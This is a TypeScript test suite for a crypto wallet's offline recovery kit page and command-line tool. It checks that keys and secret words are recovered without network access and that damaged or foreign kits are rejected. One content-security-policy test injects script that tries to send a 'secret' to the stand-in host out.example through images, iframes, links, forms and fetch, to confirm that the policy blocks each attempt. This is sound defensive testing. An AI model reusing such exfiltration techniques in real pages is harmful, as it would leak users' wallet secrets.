/**
 * The page and the command that open recovery kits, as they are built, with no server of ours running: the page from the disk, in Chromium.
 */
import { execFile } from 'node:child_process'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { type Browser, chromium, type Page } from '@playwright/test'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { slowHash } from '../../frame-app/src/wallet/key-worker/keys/password.ts'
import { expectSameElsewhere, newKit } from '../../frame-app/test/support/new-kit.ts'
import { sampleKit } from '../../frame-app/test/support/recovery-kit.ts'
import { packKit } from '../../scripts/pack/kit-files.ts'
import { chromiumLaunchOptions } from '../setup/chromium.ts'

let built = ''
const damaged = sampleKit.secret.replace('"keyVersion":1', '"keyVersion":2')
let folder = ''
let kit: Awaited<ReturnType<typeof newKit>>
const file = (name: string) => join(folder, name)
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'recovery-kit-'))
  built = join(folder, 'built')
  await packKit(built)
  // What is shipped opens no kit of another cost.
  kit = await newKit(slowHash)
  await writeFile(file('kit.json'), kit.secret)
  await writeFile(file('damaged.json'), damaged)
  await writeFile(file('other.json'), '{}')
  await writeFile(file('endless.json'), 'x'.repeat(1_000_000))
})
afterAll(() => rm(folder, { recursive: true, force: true }))

describe('the page, opened from the disk', () => {
  let browser: Browser
  beforeAll(async () => {
    browser = await chromium.launch(await chromiumLaunchOptions())
  })
  afterAll(() => browser.close())

  async function open(): Promise<{ page: Page; asked: string[] }> {
    const context = await browser.newContext({ offline: true })
    const page = await context.newPage()
    const asked: string[] = []
    context.on('request', (request) => void asked.push(request.url()))
    await page.goto(pathToFileURL(join(built, 'recovery-kit.html')).href)
    return { page, asked }
  }
  const status = (page: Page) => page.getByRole('status')

  test('gives words and keys back, without any request [F11]', async () => {
    const { page, asked } = await open()
    await page.getByLabel('The file of the kit').setInputFiles(file('kit.json'))
    await page.getByLabel('The six words', { exact: true }).fill(kit.password)
    await page.getByRole('button', { name: 'Open' }).click()
    await page.getByRole('heading', { name: 'The kit is open' }).waitFor({ timeout: 60_000 })
    expect(await page.locator('#address-eip155').textContent()).toBe(kit.addresses.eip155)
    const text = async (id: string) => (await page.locator(`#${id}`).textContent()) ?? ''
    expect(await page.locator('#words').isVisible()).toBe(false)
    await page.getByText('Secret words').click()
    expect(await page.locator('#words').isVisible()).toBe(true)
    const words = await text('words')
    expectSameElsewhere({ words, eip155: await text('key-eip155'), solana: await text('key-solana') }, kit.addresses)
    expect(asked).toEqual([pathToFileURL(join(built, 'recovery-kit.html')).href])
    await page.getByRole('button', { name: 'Clear' }).click()
    expect(await page.content()).not.toContain(words)
    await page.context().close()
  })

  test('gives them back from the printed text too; says what is wrong with another, a damaged or a foreign kit', async () => {
    const { page } = await open()
    const words = page.getByLabel('The six words', { exact: true })
    await page.getByLabel('Or its text').fill(` ${sampleKit.secret} `)
    await words.fill(kit.password)
    await page.getByRole('button', { name: 'Open' }).click()
    await expect.poll(() => status(page).textContent(), { timeout: 60_000 }).toContain('do not open this kit')
    for (const [name, text] of [
      ['damaged.json', 'is damaged'],
      ['other.json', 'not a recovery kit'],
      ['endless.json', 'not a recovery kit'],
    ] as const) {
      await page.getByLabel('The file of the kit').setInputFiles(file(name))
      await page.getByRole('button', { name: 'Open' }).click()
      await expect.poll(() => status(page).textContent()).toContain(text)
    }
    await page.context().close()
  })

  test('has no way out: its policy blocks every request, also of a script that runs in it [C282]', async () => {
    const html = await readFile(join(built, 'recovery-kit.html'), 'utf8')
    expect(html).not.toMatch(/<(link|img|iframe|base)\b|\bsrc=/)
    const context = await browser.newContext()
    const page = await context.newPage()
    const asked: string[] = []
    await context.route('http://**', (route) => {
      asked.push(route.request().url())
      return route.fulfill({ body: '' })
    })
    await page.goto(pathToFileURL(join(built, 'recovery-kit.html')).href)
    await page.evaluate(() => {
      const violated: string[] = []
      Reflect.set(window, 'violated', violated)
      document.addEventListener('securitypolicyviolation', (event) => void violated.push(event.effectiveDirective))
      const out = 'http://out.example/?secret'
      const image = new Image()
      image.src = out
      const frame = document.createElement('iframe')
      frame.src = out
      const style = document.createElement('link')
      style.rel = 'stylesheet'
      style.href = out
      document.head.append(style)
      const form = document.createElement('form')
      form.action = out
      document.body.append(frame, image, form)
      void fetch(out).catch(() => {})
      form.submit()
    })
    const violated = () => page.evaluate(() => Reflect.get(window, 'violated') as string[]) // as: set above
    for (const directive of ['connect-src', 'img-src', 'frame-src', 'style-src-elem', 'form-action'])
      await expect.poll(violated).toContain(directive)
    expect(asked).toEqual([])
    await context.close()
  })
})

describe('the command', () => {
  const command = () => join(built, 'command/airlock-recovery-kit.js')
  const run = (args: readonly string[], input = '') =>
    new Promise<{ code: number; out: string; error: string }>((done) => {
      // In an empty folder with no environment: it needs no package and no setting.
      const child = execFile(process.execPath, [command(), ...args], { cwd: folder, env: {} }, (error, out, stderr) =>
        done({ code: typeof error?.code === 'number' ? error.code : 0, out: out.trim(), error: stderr.trim() }),
      )
      child.stdin?.end(input)
    })

  test('gives words and keys back, without a network [F11]', async () => {
    const show = async (what: string) => {
      const { code, out, error } = await run(['kit.json', '--show', what], `${kit.password}\n`)
      expect({ code, error }).toEqual({ code: 0, error: '' })
      return out
    }
    expectSameElsewhere(
      { words: await show('words'), eip155: await show('ethereum'), solana: await show('solana') },
      kit.addresses,
    )
  })

  test('shows no secret unless it is named, and says what is wrong', async () => {
    const { out } = await run(['kit.json'], `${kit.password}\n`)
    expect(out).toBe(`Ethereum  ${kit.addresses.eip155}\nSolana    ${kit.addresses.solana}`)
    for (const [name, text] of [
      ['damaged.json', 'is damaged'],
      ['other.json', 'not a recovery kit'],
      ['endless.json', 'not a recovery kit'],
      ['absent.json', 'no such file'],
    ] as const)
      expect(await run([name, '--show', 'words'], `${kit.password}\n`)).toMatchObject({
        code: 1,
        out: '',
        error: expect.stringContaining(text) as unknown,
      })
    expect(await run(['kit.json', '--show', 'words'], `${sampleKit.password}\n`)).toMatchObject({ code: 1, out: '' })
    expect((await run(['kit.json', '--show', 'everything'])).code).toBe(2)
    expect((await run([])).code).toBe(2)
  })

  test('has no dependencies, and imports only what Node has [C282]', async () => {
    const manifest: unknown = JSON.parse(await readFile(join(built, 'command/package.json'), 'utf8'))
    expect(manifest).not.toHaveProperty('dependencies')
    const code = await readFile(command(), 'utf8')
    const imported = [...code.matchAll(/\bimport\b[^;'"]*['"]([^'"]+)['"]/g)].map(([, name]) => name)
    expect(new Set(imported)).toEqual(new Set(['node:fs/promises', 'node:readline', 'node:stream', 'node:util']))
  })
})
